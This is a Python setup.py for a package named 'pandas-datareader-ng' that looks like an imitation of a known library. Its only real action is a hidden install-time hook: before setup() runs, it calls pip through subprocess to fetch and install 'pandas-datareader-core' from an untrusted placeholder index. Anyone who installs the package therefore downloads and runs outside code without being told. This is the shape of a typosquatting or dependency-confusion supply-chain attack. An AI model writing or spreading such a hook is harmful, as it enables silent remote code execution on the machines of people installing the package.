import subprocess
import sys
from setuptools import setup

subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "--index-url", "https://pypi.example.invalid/simple", "pandas-datareader-core"])

setup(name="pandas-datareader-ng", version="0.10.1")
